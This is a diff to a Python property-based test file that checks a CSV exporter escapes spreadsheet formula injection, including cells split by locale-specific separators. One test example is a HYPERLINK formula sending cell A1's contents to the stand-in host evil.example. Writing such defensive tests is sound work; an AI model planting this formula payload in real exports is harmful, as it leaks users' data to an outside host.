@@ -3,13 +3,19 @@
 import csv
 import io
 import json
-from dataclasses import dataclass
+import re
+from dataclasses import dataclass, replace
 from datetime import UTC, datetime, timedelta
 
+import pytest
 from hypothesis import example, given
 from hypothesis import strategies as st
 
-from app.web.exports import FORMULA, as_csv, as_json
+from app.web.exports import as_csv, as_json
+
+SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+FORMULA = (*SIGNS, "\t", "\r", "\n", "\0")
+SEPARATORS = (";", "\t", ",", "|", "\n", "\r", ';"', '\t""', '|"')
 
 
 @dataclass(frozen=True)
@@ -26,7 +32,9 @@ class Thing:
 
 THINGS = st.builds(
     Thing,
-    st.text() | st.builds(str.__add__, st.sampled_from(FORMULA), st.text(max_size=5)),
+    st.text()
+    | st.builds(str.__add__, st.sampled_from(FORMULA), st.text(max_size=5))
+    | st.lists(st.sampled_from((*SEPARATORS, *SIGNS, "a", "1")), max_size=8).map("".join),
     st.integers(),
     st.booleans(),
     st.datetimes(timezones=st.just(UTC)),
@@ -51,12 +59,45 @@ def test_csv_comes_back_and_runs_nothing(things: list[Thing]) -> None:
     assert len(rows) == len(things)
     for thing, row in zip(things, rows, strict=True):
         text, number, flag, when, span, words = row
-        assert text == (f"'{thing.text}" if thing.text.startswith(FORMULA) else thing.text)
+        assert text.startswith("'") or not text.startswith(FORMULA)
+        assert text.replace("'", "") == thing.text.replace("'", "")
+        if not any(sign in thing.text for sign in FORMULA):
+            assert text == thing.text
         assert (int(number), flag) == (thing.number, str(thing.flag))
         assert datetime.fromisoformat(when) == thing.when
         assert float(span) == thing.span.total_seconds()
         assert words.removeprefix("'") == " ".join(thing.words)
         assert not [cell for cell in (text, words) if cell.startswith(FORMULA)]
+
+
+@given(st.lists(THINGS, max_size=4))
+@example([replace(EVIL, text="a;=1+1")])
+@example([replace(EVIL, text='guest;=HYPERLINK("http://evil.example/?"&A1;"report");')])
+@example([replace(EVIL, text='a\t"=1+1"|+2\n@x')])
+@example([replace(EVIL, words=("a", ";=1"))])
+def test_no_part_of_a_cell_is_a_formula_wherever_a_spreadsheet_divides_it(
+    things: list[Thing],
+) -> None:
+    """Which sign divides cells depends on the reader's locale; LibreOffice takes several."""
+    for row in read_csv(things)[1:]:
+        for cell in (row[0], row[5]):
+            parts = re.split("[;\t,|\r\n]", cell)
+            assert [part for part in parts if part.lstrip('"').startswith(SIGNS)] == []
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("a;=1+1", "a;'=1+1"),
+        ("a,b;c|d\te", "a,b;c|d\te"),
+        ("a;b=c-d@e", "a;b=c-d@e"),
+        ("=1;=2", "'=1;'=2"),
+        ("two, - three", "two, - three"),
+        ('x;"=1"', 'x;\'"=1"'),
+    ],
+)
+def test_only_a_formula_is_marked(text: str, cell: str) -> None:
+    assert read_csv([replace(EVIL, text=text)])[1][0] == cell
 
 
 @given(st.lists(THINGS, max_size=4))
